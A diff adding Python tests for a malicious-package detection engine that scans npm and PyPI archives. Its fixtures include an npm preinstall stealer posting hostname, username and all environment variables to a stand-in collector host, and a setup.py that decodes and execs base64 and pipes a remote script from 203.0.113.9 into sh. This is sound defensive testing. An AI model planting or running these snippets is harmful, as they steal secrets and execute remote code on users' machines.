@@ -1,0 +1,75 @@
+from __future__ import annotations
+
+import hashlib
+
+from tests.analysis.builders import npm_tarball, sdist, wheel
+from threatfeed.analysis import ENGINE_VERSION, FLAG_THRESHOLD, Engine
+
+STEALER_HOOK = """
+const https = require("https");
+const os = require("os");
+const payload = JSON.stringify({ host: os.hostname(), user: os.userInfo().username,
+                                 env: process.env });
+const req = https.request({ hostname: "collector.example.oast.fun", method: "POST" });
+req.write(payload);
+req.end();
+"""
+
+
+def test_benign_npm_package_is_not_flagged(engine: Engine) -> None:
+    analysis = engine.analyze(npm_tarball())
+    assert analysis.ecosystem == "npm"
+    assert (analysis.name, analysis.version) == ("left-padder", "1.2.3")
+    assert not analysis.flagged
+    assert analysis.score < FLAG_THRESHOLD
+    assert analysis.engine_version == ENGINE_VERSION
+
+
+def test_npm_install_hook_beacon_is_flagged_with_evidence(engine: Engine) -> None:
+    data = npm_tarball({"collect.js": STEALER_HOOK}, scripts={"preinstall": "node collect.js"})
+    analysis = engine.analyze(data)
+    assert analysis.flagged
+    assert analysis.sha256 == hashlib.sha256(data).hexdigest()
+    assert analysis.indicators["npm_hooks_rule"] == ["node collect.js"]
+    urls = analysis.indicators["suspicious_url_references_rule"]
+    assert urls == [{"file": "package/collect.js", "urls": ["collector.example.oast.fun"]}]
+    assert any(loc.file == "package/collect.js" and loc.line for loc in analysis.locations)
+    assert ("package/collect.js", len(STEALER_HOOK)) in analysis.files
+
+
+def test_benign_sdist_is_not_flagged(engine: Engine) -> None:
+    analysis = engine.analyze(sdist())
+    assert (analysis.ecosystem, analysis.name, analysis.version) == (
+        "pypi",
+        "tidy-strings",
+        "0.4.0",
+    )
+    assert not analysis.flagged
+    assert analysis.indicators == {}
+
+
+def test_setup_py_decoding_and_running_code_is_flagged(engine: Engine) -> None:
+    setup_py = (
+        "import base64, os\n"
+        "from setuptools import setup\n"
+        "exec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n"
+        "os.system('curl -s http://203.0.113.9/x.sh | sh')\n"
+        "setup(name='tidy-strings', version='0.4.0')\n"
+    )
+    analysis = engine.analyze(sdist(setup_py=setup_py))
+    assert analysis.flagged
+    types = {item["type"] for item in analysis.indicators["suspicious_setup_commands_rule"]}
+    assert {"code_execution", "process", "decode"} <= types
+    assert "decode_and_execute_rule" in analysis.indicators
+    assert "executes_code_at_remote_url_rule" in analysis.indicators
+
+
+def test_wheel_is_recognised_by_content_not_name(engine: Engine) -> None:
+    analysis = engine.analyze(wheel({"tidy_strings/__init__.py": "X = 1\n"}), filename="x.tar.gz")
+    assert (analysis.ecosystem, analysis.name) == ("pypi", "tidy_strings")
+
+
+def test_garbage_gives_an_error_not_an_exception(engine: Engine) -> None:
+    analysis = engine.analyze(b"\x00not an archive at all" * 10)
+    assert analysis.errors
+    assert not analysis.flagged
